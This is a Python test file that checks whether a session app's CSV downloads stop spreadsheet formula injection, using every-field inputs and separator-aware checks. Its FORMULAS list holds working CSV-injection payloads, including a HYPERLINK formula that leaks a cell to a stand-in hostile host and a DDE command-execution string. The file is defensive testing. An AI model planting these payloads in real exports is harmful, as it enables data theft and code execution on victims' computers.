"""Typed text may look like a formula; a spreadsheet that opens a download must not run it."""

import csv
import io
import re
import time

import pytest

from tests.protocol.people import Session, op
from tests.protocol.raw import Raw
from tests.protocol.waiting import PATIENCE_S

RETRY_S = 0.2

SEAT = re.compile(r'data-seat="([^"]+)"')
# Characters that make a spreadsheet calculate a cell; the last four are full-width.
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
# Spreadsheets expect different separators, and so begin cells in different places.
SEPARATORS = ",;\t|"

FORMULAS = [
    '=HYPERLINK("http://x-hostile.example/?"&A1, "x-hostile")',
    "=cmd|' /C calc'!A0",
    "+1+1 x-hostile",
    "-2+3 x-hostile",
    "@SUM(1+1) x-hostile",
    "\uff1d1+1 x-hostile",
    "\t=1+1 x-hostile",
    "x-hostile;=1+1",
    'x-hostile,"=1+1',
]

# Each download has at least one line with every formula.
KINDS = ("attendance", "polls", "answers", "ballots", "steps", "captions", "questions", "chat")


@pytest.fixture
def interpreter(desk, sign_in):
    """`interpreter(code)`: the seat of an interpreter appointed to a session."""

    def interpreter(code):
        email = "interpreter-of-formulas@demo.example"
        link = desk.invite("Dana", email, "presenter")
        desk.appoint(code, email, "interpreter.kk")
        return SEAT.search(sign_in(link).get(f"/rooms/{code}/interpreting").text)[1]

    return interpreter


@pytest.fixture
def code(desk, server, interpreter):
    """A session with each formula typed into every field."""
    code = desk.new_session(FORMULAS[0])
    seat = SEAT.search(desk.get(f"/rooms/{code}/console").text)[1]
    session = Session(server, code)
    with Raw(server) as host, Raw(server) as dana:
        host.sit(seat)
        do(host, "room.start")
        do(host, "chat.set", mode="everyone")
        dana.sit(interpreter(code))
        for number, formula in enumerate(FORMULAS, start=1):
            do(dana, "caption.say", text=formula)
            with Raw(server) as guest:
                guest.sit(session.join(formula, "en"))
                type_everywhere(host, guest, number, formula)
    return code


def type_everywhere(host, guest, number, formula):
    """Type the formula into a step, a question, the chat and two polls; `number` is the step's."""
    do(guest, "step.propose", text=formula, language="en")
    do(host, "step.put", step=number)
    do(guest, "step.answer", step=number, ballot=1, answer="reserve", reason=formula)
    do(guest, "step.own", step=number, role=formula)
    do(host, "step.detail", step=number, base=0, due="2031-05-01", indicator=formula)
    do(host, "step.close", step=number)
    do(guest, "question.ask", text=formula, language="en")
    do(guest, "chat.say", text=formula, language="en")
    poll_fields = {"question": formula, "options": [formula, "No"], "language": "en"}
    chosen, written = f"spot-{2 * number - 1}", f"spot-{2 * number}"
    do(host, "poll.create", kind="single", quiz=False, **poll_fields)
    do(host, "poll.open", poll=chosen)
    [options] = [
        poll["options"]
        for poll in do(guest, "room.snapshot")["snapshot"]["polls"]
        if poll["poll"] == chosen
    ]
    do(guest, "poll.vote", poll=chosen, options=options[:1])
    do(host, "poll.create", kind="text", quiz=False, **poll_fields | {"options": []})
    do(host, "poll.open", poll=written)
    do(guest, "poll.vote", poll=written, text=formula)


def do(link, name, **fields):
    """Run a command as clients do: retry when the answer says so."""
    message = fields if name == "room.snapshot" else op(**fields)
    answer = link.call(name, message)
    deadline = time.monotonic() + PATIENCE_S
    while answer.get("retry") and time.monotonic() < deadline:
        time.sleep(RETRY_S)
        answer = link.call(name, message)
    assert answer["ok"], answer
    return answer


def test_no_download_contains_a_formula_that_runs(code, desk):
    for kind in KINDS:
        for separator in ("comma", "semicolon"):
            path = f"/rooms/{code}/report/{kind}.csv?separator={separator}"
            text = desk.get(path).content.decode("utf-8-sig")
            assert text.count("x-hostile") >= len(FORMULAS), kind
            for separator_read in SEPARATORS:
                first_characters = beginnings(text, separator_read)
                assert not FORMULA_STARTS.intersection(first_characters), (
                    path,
                    separator_read,
                    text,
                )


def beginnings(text, separator):
    """The beginning of each cell for a spreadsheet that expects this separator."""
    rows = csv.reader(io.StringIO(text, ""), delimiter=separator)
    return {cell.strip('" \xa0')[:1] for row in rows for cell in row}
